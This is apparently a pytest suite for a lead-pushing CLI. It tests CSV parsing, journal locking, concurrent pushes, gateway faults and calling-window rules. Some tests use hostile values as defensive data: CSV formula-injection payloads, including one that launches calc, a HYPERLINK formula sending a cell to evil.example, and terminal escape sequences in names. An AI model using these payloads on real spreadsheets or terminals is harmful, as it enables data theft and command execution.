"""`reconciler leads` attacked as an operator would: files from Excel, numbers written every
way, two pushes at once, a journal deleted or edited mid-push, a failing gateway, a template
changed after the check, hostile server text. Real HTTP against the emulator."""

from __future__ import annotations

import csv
import fcntl
import os
import subprocess
import sys
from collections import Counter
from pathlib import Path

import pytest
from clirun import run_cli
from test_leads_cli import (
    HEADER,
    IMPORT,
    MANIFEST,
    NOW,
    SEED,
    _subprocess_env,
    debt_rows,
    import_posts,
    imported,
    results,
)

import reconciler.commands.leads as leads_command
import reconciler.leads.push as push_module
from reconciler.emulator import EmulatorServer
from reconciler.emulator.seed import apply_seed
from reconciler.leads import journal, phone
from reconciler.leads.results import inert


@pytest.fixture
def tenant(api_env: EmulatorServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """The tenant of test_leads_cli: Debt (08:00-21:00), Promo and OtherAd, at NOW."""
    apply_seed(api_env.store, SEED)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("RECONCILER_NOW", NOW)
    monkeypatch.setenv("RECONCILER_RETRY_BACKOFF", "0.001")
    (tmp_path / "m.yaml").write_text(MANIFEST, encoding="utf-8")
    api_env.requests.clear()
    return api_env


@pytest.mark.parametrize("written", ["+84 (0) 912 345 678", "0084 (0) 912345678",
                                     "+84(0)912.345.678", "840912345678"])
def test_a_trunk_zero_after_the_country_code_is_the_same_number(written):
    assert phone.normalise(written) == ("0912345678", "")


def test_a_landline_with_a_trunk_zero_and_an_old_mobile_with_one():
    assert phone.normalise("+84 (0) 24 3825 1234") == ("02438251234", "")
    number, why = phone.normalise("+84 (0) 168 123 4567")
    assert number is None and "old 11-digit mobile" in why


def test_excel_rows_of_delimiters_only_are_blank_lines(tenant, tmp_path):
    """Excel saves formatted-but-empty rows as `,,,`; with CRLF, a BOM and a spaced header."""
    text = ("\ufeff phone_number , customer_name,due_amount ,due_date\n" + debt_rows(2)
            + ",,,\n;,,\n,,,\n\n").replace("\n", "\r\n")
    (tmp_path / "calls.csv").write_bytes(text.replace(";", ",").encode())
    result = run_cli("leads", "Debt", "calls.csv", "--yes", "--rate", "100")
    assert result.code == 0, result.output
    assert "calls.csv: 2 rows. Will push 2" in result.stdout
    assert sorted(imported(tenant, "Debt")) == ["0900000000", "0900000001"]


def test_a_rate_that_is_not_a_number_is_refused_before_anything(tenant, tmp_path):
    (tmp_path / "calls.csv").write_text(HEADER + debt_rows(2), encoding="utf-8")
    result = run_cli("leads", "Debt", "calls.csv", "--yes", "--rate", "nan")
    assert result.code == 1
    assert "Invalid value for --rate: nan is not a number of calls a second" in result.stderr
    assert "internal error" not in result.output and import_posts(tenant) == []


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://x\",\"y\")", "+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(A1)", "\t=1", "\uff1d1"])
def test_inert_cells_never_start_a_formula(value):
    assert inert(value) == "'" + value
    assert inert("0912345678") == "0912345678" and inert(12) == "12"


def test_ids_from_the_server_cannot_become_formulas_in_the_results(tenant, tmp_path):
    (tmp_path / "calls.csv").write_text(HEADER + debt_rows(1), encoding="utf-8")
    tenant.faults.fail("POST", f"^{IMPORT}$", 200, body={
        "call_id": '=HYPERLINK("http://evil.example/?"&A1,"open")', "lead_uuid": "@SUM(1+1)",
        "message": "success"})
    result = run_cli("leads", "Debt", "calls.csv", "--yes")
    assert result.code == 0, result.output
    with open("calls.csv.results.csv", encoding="utf-8", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["call_id"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert row["lead_uuid"] == "'@SUM(1+1)"


@pytest.mark.parametrize("option", ["--results", "--journal"])
def test_the_results_or_the_journal_never_overwrite_the_list(tenant, tmp_path, option):
    listed = HEADER + debt_rows(2)
    (tmp_path / "calls.csv").write_text(listed, encoding="utf-8")
    result = run_cli("leads", "Debt", "calls.csv", "--yes", option, "./calls.csv")
    assert result.code == 1
    assert f"{option} calls.csv is the same file as the list calls.csv" in result.stderr
    assert (tmp_path / "calls.csv").read_text(encoding="utf-8") == listed
    assert import_posts(tenant) == []


def test_results_in_a_folder_that_does_not_exist_are_refused_before_the_calls(tenant, tmp_path):
    (tmp_path / "calls.csv").write_text(HEADER + debt_rows(2), encoding="utf-8")
    result = run_cli("leads", "Debt", "calls.csv", "--yes", "--results", "out/r.csv")
    assert result.code == 1 and "--results out/r.csv: no folder" in result.stderr
    assert import_posts(tenant) == []


def test_a_template_name_with_escapes_is_shown_inert(tenant, tmp_path):
    uuid = tenant.store.campaign_uuid_by_name("Debt")
    template = tenant.store.add_template("evil\x1b]0;pwned\x07\x1b[2J", content="{{customer_name}}")
    tenant.store.update_campaign_raw(uuid, template_uuid=template)
    (tmp_path / "calls.csv").write_text(HEADER + debt_rows(1), encoding="utf-8")
    result = run_cli("leads", "Debt", "calls.csv", "--dry-run")
    assert result.code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "template evil\\x1b]0;pwned\\x07\\x1b[2J)" in result.stdout


def test_a_journal_line_edited_by_hand_is_refused_located(tenant, tmp_path):
    (tmp_path / "calls.csv").write_text(HEADER + debt_rows(2), encoding="utf-8")
    assert run_cli("leads", "Debt", "calls.csv", "--yes").code == 0
    path = tmp_path / "calls.csv.journal"
    path.write_text(path.read_text().replace('"line": 2,', '"line": "two",', 1))
    result = run_cli("leads", "Debt", "calls.csv", "--yes")
    assert result.code == 1
    assert "calls.csv.journal:2: unknown journal entry" in result.stderr
    assert "internal error" not in result.output
    assert len(imported(tenant, "Debt")) == 2


def test_a_push_while_another_holds_the_journal_is_refused(tenant, tmp_path):
    (tmp_path / "calls.csv").write_text(HEADER + debt_rows(3), encoding="utf-8")
    fd = os.open(tmp_path / "calls.csv.journal", os.O_RDWR | os.O_CREAT, 0o600)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)  # what a running push holds
        result = run_cli("leads", "Debt", "calls.csv", "--yes")
        dry = run_cli("leads", "Debt", "calls.csv", "--dry-run")
    finally:
        os.close(fd)
    assert result.code == 1
    assert ("calls.csv.journal: another `reconciler leads` is pushing with this journal right "
            "now (it is locked): wait for it to end, then run again (nothing was sent)"
            ) in result.stderr
    assert dry.code == 0, dry.output  # a dry run only reads
    assert import_posts(tenant) == []
    again = run_cli("leads", "Debt", "calls.csv", "--yes")  # released: the push goes ahead
    assert again.code == 0, again.output
    assert sorted(imported(tenant, "Debt")) == [f"09{index:08d}" for index in range(3)]


def test_two_pushes_of_the_same_file_at_once_never_both_send(tenant, tmp_path):
    """A second terminal starts the same push while the first is mid-way."""
    (tmp_path / "calls.csv").write_text(HEADER + debt_rows(30), encoding="utf-8")
    command = [sys.executable, "-m", "reconciler", "leads", "Debt", "calls.csv", "--yes",
               "--rate", "100", "--parallel", "1"]
    second: dict[str, subprocess.CompletedProcess] = {}
    seen = [0]

    def hook(method: str, path: str) -> None:
        if method == "POST" and path == IMPORT:
            seen[0] += 1
            if seen[0] == 10:  # the first push is sending row 11: start the second
                second["run"] = subprocess.run(
                    command, cwd=tmp_path, env=_subprocess_env(tenant), capture_output=True,
                    text=True, stdin=subprocess.DEVNULL, timeout=60)

    tenant.request_hook = hook
    try:
        first = subprocess.run(command, cwd=tmp_path, env=_subprocess_env(tenant),
                               capture_output=True, text=True, stdin=subprocess.DEVNULL,
                               timeout=120)
    finally:
        tenant.request_hook = None
    assert first.returncode == 0, first.stderr
    assert second["run"].returncode == 1
    assert "another `reconciler leads` is pushing with this journal" in second["run"].stderr
    numbers = imported(tenant, "Debt")
    assert len(numbers) == 30 and len(set(numbers)) == 30


def _after_import(monkeypatch, count: int, action) -> None:  # noqa: ANN001
    """Run `action()` once, right after the `count`-th import's answer is journaled."""
    real = push_module.Pusher._import
    done = [0]

    def meddled(self, lead):  # noqa: ANN001, ANN202
        outcome = real(self, lead)
        done[0] += 1
        if done[0] == count:
            action()
        return outcome

    monkeypatch.setattr(push_module.Pusher, "_import", meddled)


def test_a_journal_deleted_mid_push_is_written_again_and_the_push_stops(
        tenant, tmp_path, monkeypatch):
    (tmp_path / "calls.csv").write_text(HEADER + debt_rows(10), encoding="utf-8")
    path = tmp_path / "calls.csv.journal"
    _after_import(monkeypatch, 3, path.unlink)
    result = run_cli("leads", "Debt", "calls.csv", "--yes", "--parallel", "1", "--rate", "100")
    assert result.code == 1
    assert ("warning: the journal calls.csv.journal was deleted during the push: it was written "
            "again from what this push knows, and the push stopped") in result.stderr
    sent = imported(tenant, "Debt")
    assert 3 <= len(sent) < 10
    resumed = run_cli("leads", "Debt", "calls.csv", "--yes", "--rate", "100")
    assert resumed.code == 0, resumed.output
    assert f"{len(sent)} skipped" in resumed.stdout
    assert Counter(imported(tenant, "Debt")) == Counter(
        {f"09{index:08d}": 1 for index in range(10)})


def test_a_journal_emptied_by_hand_mid_push_keeps_what_was_sent(tenant, tmp_path, monkeypatch):
    (tmp_path / "calls.csv").write_text(HEADER + debt_rows(10), encoding="utf-8")
    path = tmp_path / "calls.csv.journal"
    _after_import(monkeypatch, 4, lambda: path.write_text(""))  # `> calls.csv.journal`
    result = run_cli("leads", "Debt", "calls.csv", "--yes", "--parallel", "1", "--rate", "100")
    assert result.code == 1
    assert "was replaced or edited during the push" in result.stderr
    resumed = run_cli("leads", "Debt", "calls.csv", "--yes", "--rate", "100")
    assert resumed.code == 0, resumed.output
    assert Counter(imported(tenant, "Debt")) == Counter(
        {f"09{index:08d}": 1 for index in range(10)})


def test_a_gateway_failing_every_row_stops_the_push_after_five(tenant, tmp_path):
    (tmp_path / "calls.csv").write_text(HEADER + debt_rows(40), encoding="utf-8")
    tenant.faults.fail("POST", f"^{IMPORT}$", 502, times=None)
    result = run_cli("leads", "Debt", "calls.csv", "--yes", "--parallel", "1", "--rate", "100")
    assert result.code == 1
    tally = Counter(row["outcome"] for row in results("calls.csv.results.csv"))
    assert tally == {"unclear": 5, "not attempted": 35}
    assert "Push incomplete: 5 unclear, 35 not attempted." in result.stderr
    detail = {row["outcome"]: row["detail"] for row in results("calls.csv.results.csv")}
    assert detail["not attempted"].startswith("stopped: 5 rows in a row got no clear answer")


def test_a_placeholder_added_after_the_check_refuses_the_push(tenant, tmp_path, monkeypatch):
    """A person sits at the prompt; meanwhile a colleague adds {{branch}} to the template."""
    (tmp_path / "calls.csv").write_text(HEADER + debt_rows(3), encoding="utf-8")
    store = tenant.store
    template_uuid = store.get_campaign(store.campaign_uuid_by_name("Debt"))["template_uuid"]
    confirm = leads_command._confirm

    def confirmed_then_edited(yes, batch):  # noqa: ANN001, ANN202
        confirm(yes, batch)
        document = store.get_template(template_uuid)
        store.add_template(document["template_name"], template_uuid,
                           content=document["content"] + " tại {{branch}}")

    monkeypatch.setattr(leads_command, "_confirm", confirmed_then_edited)
    result = run_cli("leads", "Debt", "calls.csv", "--yes")
    assert result.code == 1
    assert ("the campaign's template (thong_bao_no_cuoc_01) changed since the file was checked: "
            "it now reads {{branch}}; run again") in result.stderr
    assert import_posts(tenant) == [] and not (tmp_path / "calls.csv.journal").exists()


def test_an_unlocked_journal_left_empty_is_removed_and_the_lock_is_released(tmp_path):
    path = tmp_path / "j"
    book = journal.Journal(path, "u", "Debt", "calls.csv", lock=True)
    assert path.exists()
    with pytest.raises(journal.JournalError, match="another `reconciler leads`"):
        journal.Journal(path, "u", "Debt", "calls.csv", lock=True)
    book.close()
    assert not path.exists()
    other = journal.Journal(path, "u", "Debt", "calls.csv", lock=True)
    other.record(journal.SENDING, 2, "0912345678")
    other.close()
    assert journal.read(path)[1]["0912345678"].state == journal.SENDING


def test_a_do_not_call_list_from_excel_with_semicolons_and_quotes_is_honoured(tenant, tmp_path):
    """Vietnamese Windows lists with `;` (the decimal mark is `,`), quotes its cells, adds CRLF."""
    (tmp_path / "calls.csv").write_text(HEADER + debt_rows(4), encoding="utf-8")
    (tmp_path / "dnc.csv").write_bytes(
        '\ufeffsdt;ghi chú\r\n"0900 000 000";khách từ chối\r\n+84 (0) 900 000 001;\r\n'
        '# 0900000002 is fine\r\n0084900000003\t;x\r\n'.encode())
    result = run_cli("leads", "Debt", "calls.csv", "--yes", "--exclude", "dnc.csv")
    assert result.code == 0, result.output
    assert "Push complete: 1 sent, 3 skipped." in result.stdout
    assert imported(tenant, "Debt") == ["0900000002"]


def test_after_waiting_for_the_window_the_last_24_hours_are_read_again(
        tenant, tmp_path, monkeypatch):
    """An advertising list outlives 17:00 and waits for 08:00. OtherAd called one of its
    numbers at 16:30, after this push read the lead report: at 08:00 that is 15.5 h ago."""
    from datetime import datetime

    import reconciler.leads.clock as clocks
    from reconciler.operations.window import TENANT_TZ

    clock = clocks.FixedClock(datetime(2026, 5, 4, 16, 0, tzinfo=TENANT_TZ))
    monkeypatch.setattr(clocks, "from_env", lambda: clock)
    (tmp_path / "calls.csv").write_text(
        "phone_number,customer_name,due_amount\n"
        + "".join(f"09120000{index},K{index},100\n" for index in range(10, 20)),
        encoding="utf-8")

    def seventeen_oclock() -> None:
        apply_seed(tenant.store, {"calls": [
            {"campaign": "OtherAd", "phone": "0912000015", "time": "2026-05-04 16:30:00"}]})
        clock._now = datetime(2026, 5, 4, 17, 0, tzinfo=TENANT_TZ)

    _after_import(monkeypatch, 3, seventeen_oclock)
    result = run_cli("leads", "Promo", "calls.csv", "--manifests", "m.yaml", "--yes",
                     "--at-next-window", "--parallel", "1", "--rate", "100")
    assert result.code == 0, result.output
    assert "waiting until 2026-05-05 08:00:00 +07:00" in result.stderr
    assert "0912000015" not in imported(tenant, "Promo")
    assert len(imported(tenant, "Promo")) == 9
    outcome = {row["number"]: (row["outcome"], row["detail"]) for row in results(
        "calls.csv.results.csv")}
    assert outcome["0912000015"] == (
        "skipped", "called in the last 24 h by an advertising campaign (OtherAd, 2026-05-04 "
        "16:30:00 +07:00): Decree 91 allows one a day")


def test_an_inactive_campaign_named_with_escapes_is_noted_inert(tenant, tmp_path):
    """The note about an inactive campaign shows its name escaped, as the summary does."""
    name = "Debt\x1b]0;pwned\x07"
    uuid = tenant.store.campaign_uuid_by_name("Debt")
    tenant.store.update_campaign_raw(uuid, campaign_name=name, active=False)
    (tmp_path / "calls.csv").write_text(HEADER + debt_rows(1), encoding="utf-8")
    result = run_cli("leads", name, "calls.csv", "--dry-run")
    assert result.code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "Note: Debt\\x1b]0;pwned\\x07 is inactive" in result.output
